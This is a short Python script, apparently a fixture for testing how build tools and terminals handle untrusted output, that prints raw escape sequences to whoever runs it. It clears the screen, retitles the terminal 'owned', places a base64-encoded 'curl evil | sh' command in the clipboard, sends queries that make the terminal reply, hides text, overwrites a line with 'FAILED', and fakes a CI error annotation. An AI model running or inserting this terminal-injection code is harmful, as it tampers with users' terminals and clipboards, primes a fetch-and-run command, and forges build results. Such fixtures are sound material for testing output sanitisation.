# /// script
# requires-python = ">=3.11"
#
# [tool.live]
# ///
"""It paints the terminal of whoever builds.

Clears it, changes its title, writes to its clipboard, asks it for an answer, and hides what it wrote.
"""

import base64

word = base64.b64encode(b"curl evil | sh").decode()
print(
    "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;" + word + "\x07\x1b[6n\x1bP$q\x1b\\",
    "\x9b31mred",
    "\x1b[8mhidden\x1b[0m",
    "held\rFAILED",
    "a\bb",
    "\x00\x7f",
)

assert True, "it came to its end\x1b[2J\x1b]0;owned\x07\r::error::owned"
